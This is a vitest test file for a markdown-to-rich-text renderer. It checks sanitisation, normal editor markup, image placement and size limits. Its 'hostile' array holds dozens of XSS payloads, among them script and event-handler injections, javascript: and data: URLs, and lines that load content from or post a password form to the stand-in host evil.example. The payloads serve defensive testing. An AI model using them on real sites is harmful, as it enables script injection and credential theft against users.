import {
  placeImages,
  type RichNode,
  richElements,
  richNodesMaxBytes,
  textOf,
} from '@linli/shared/rich-text.ts';
import { expect, test } from 'vitest';
import { renderMarkdown } from './markdown.ts';
import { imagePath } from './rich-nodes.ts';

const image = 'a'.repeat(24);

/** Everything in the nodes that is not text: element names, and attributes with their values. */
function marksOf(nodes: readonly RichNode[]): { names: string[]; attributes: [string, string][] } {
  const names: string[] = [];
  const attributes: [string, string][] = [];
  const visit = (node: RichNode) => {
    if (!('name' in node)) return;
    names.push(node.name);
    attributes.push(...Object.entries(node.attrs));
    for (const child of node.children ?? []) visit(child);
  };
  for (const node of nodes) visit(node);
  return { names, attributes };
}

/** What an attacker, a careless paste or an odd tool puts into an article. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  `<img src="image:${image}" onload="alert(1)" style="position:fixed" srcset="https://evil.example/a 2x">`,
  `<img src="image:${image}/../../etc">`,
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">点</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.example/x)">字</p>',
  '<p class="rt-p page-error" id="app" data-x="1" aria-hidden="true">字</p>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">点我</a>',
  '<a href="java\tscript:alert(1)">点我</a>',
  '<a href=" javascript:alert(1)">点我</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
  '<a href="vbscript:msgbox(1)">点我</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank">点我</a>',
  '[点我](javascript:alert(1))',
  '[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[点我]: javascript:alert(1)\n\n[点我]',
  '![图](javascript:alert(1))',
  '![图](data:image/png;base64,iVBORw0KGgo=)',
  '<javascript:alert(1)>',
  '<video src="https://evil.example/a.mp4" autoplay></video><audio src="data:audio/mp3,1"></audio>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" colspan="2" onmouseover="alert(1)">格</td></tr></table>',
  '<details open ontoggle=alert(1)>字</details>',
  '<marquee onstart=alert(1)>字</marquee>',
  '<ol start="1;alert(1)"><li>一</li></ol>',
  '<u/onmouseover=alert(1)>字</u>',
  '```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
];

test('there are at least forty hostile inputs, each of its own', () => {
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(40);
});

test.each(hostile)('nothing that runs, or calls elsewhere, survives of %s', (markdown) => {
  for (const text of [
    markdown,
    `前文 ${markdown} 后文`,
    `- 一\n- ${markdown}`,
    `| 甲 |\n|---|\n| ${markdown} |`,
  ]) {
    const { nodes, links } = renderMarkdown(text);
    const { names, attributes } = marksOf(nodes);
    for (const name of names) expect(richElements).toContain(name);
    for (const [name, value] of attributes) {
      expect(['class', 'src', 'alt', 'start', 'colspan', 'rowspan']).toContain(name);
      if (name === 'class') expect(value).toMatch(/^rt-[a-z0-9]+$/);
      if (name === 'src') expect(value).toBe(imagePath(image));
      if (['start', 'colspan', 'rowspan'].includes(name)) expect(value).toMatch(/^\d+$/);
    }
    for (const { url } of links) expect(url).toMatch(/^(https:\/\/|tel:)/);
  }
});

test('what editors write is drawn', () => {
  const { nodes, links, images, characters } = renderMarkdown(
    [
      '# 一级',
      '## 二级',
      '一段**重点**和~~旧的~~，<u>下划线</u>，<ruby>债<rt>zhài</rt></ruby>。',
      '1. 一\n2. 二',
      '> 引用',
      `![楼道](image:${image})`,
      '| 时间 | 做法 |\n|---|---|\n| 夜里 | 报警 |',
      '见[法条](https://flk.npc.gov.cn)，打[热线](tel:12348)。',
    ].join('\n\n'),
  );
  const { names, attributes } = marksOf(nodes);
  expect(names.filter((name) => /^h\d/.test(name))).toEqual(['h2', 'h2']);
  for (const name of [
    'strong',
    'del',
    'u',
    'ruby',
    'rt',
    'ol',
    'li',
    'blockquote',
    'img',
    'table',
    'th',
    'td',
  ])
    expect(names).toContain(name);
  expect(attributes).toContainEqual(['src', imagePath(image)]);
  expect(images).toEqual([image]);
  expect(links).toEqual([
    { text: '法条', url: 'https://flk.npc.gov.cn' },
    { text: '热线', url: 'tel:12348' },
  ]);
  expect(textOf(nodes)).toContain('见法条，打热线。');
  expect(characters).toBeGreaterThan(30);
});

test('pictures are placed at the server that the page calls', () => {
  const { nodes } = renderMarkdown(`![楼道](image:${image})`);
  expect(JSON.stringify(placeImages(nodes, 'https://linli.example'))).toContain(
    `"src":"https://linli.example${imagePath(image)}"`,
  );
});

test('ten thousand characters, densely marked up, stay far below the 256 KB that WeChat takes in one go', () => {
  const paragraph = '公用部位的**费用**由业主分摊。\n\n';
  const { nodes, characters } = renderMarkdown(paragraph.repeat(770));
  expect(characters).toBeGreaterThan(10_000);
  expect(Buffer.byteLength(JSON.stringify(nodes))).toBeLessThan(richNodesMaxBytes);
});
